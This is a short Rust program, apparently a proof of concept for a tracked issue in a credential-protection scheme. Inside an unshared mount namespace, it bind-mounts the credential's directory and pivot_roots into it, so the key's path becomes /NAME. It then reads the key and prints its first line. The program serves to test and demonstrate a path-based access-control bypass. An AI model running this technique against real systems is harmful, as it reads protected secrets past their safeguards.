//! Issue 15 attack: make a credential's directory the root, so the kernel-walked path of the
//! key is just `/NAME`. Run under `unshare -m` (or `unshare -Urm`).
//!
//! `attack_pivot_root DIR NAME`: bind-mounts DIR on itself (pivot_root needs a mount point),
//! pivot_root(DIR, DIR) (the old root stacked on the new one, then detached), chdir /, reads
//! /NAME.
use std::ffi::CString;

fn main() {
    let args: Vec<String> = std::env::args().collect();
    assert!(args.len() == 3, "usage: attack_pivot_root DIR NAME");
    let dir = CString::new(args[1].clone()).unwrap();
    let none = CString::new("none").unwrap();
    let slash = CString::new("/").unwrap();
    let dot = CString::new(".").unwrap();
    // SAFETY: plain syscalls on valid C strings.
    unsafe {
        // Private propagation, so nothing leaks back to the host's mounts.
        assert_eq!(
            libc::mount(
                none.as_ptr(),
                slash.as_ptr(),
                std::ptr::null(),
                libc::MS_REC | libc::MS_PRIVATE,
                std::ptr::null()
            ),
            0,
            "make / private: {}",
            std::io::Error::last_os_error()
        );
        assert_eq!(
            libc::mount(
                dir.as_ptr(),
                dir.as_ptr(),
                std::ptr::null(),
                libc::MS_BIND,
                std::ptr::null()
            ),
            0,
            "bind {}: {}",
            args[1],
            std::io::Error::last_os_error()
        );
        assert_eq!(libc::chdir(dir.as_ptr()), 0);
        assert_eq!(
            libc::syscall(libc::SYS_pivot_root, dot.as_ptr(), dot.as_ptr()),
            0,
            "pivot_root: {}",
            std::io::Error::last_os_error()
        );
        assert_eq!(
            libc::umount2(dot.as_ptr(), libc::MNT_DETACH),
            0,
            "detach the old root"
        );
        assert_eq!(libc::chdir(slash.as_ptr()), 0);
    }
    let text = std::fs::read_to_string(format!("/{}", args[2])).expect("read the key");
    println!("read /{}: {}", args[2], text.lines().next().unwrap_or(""));
}
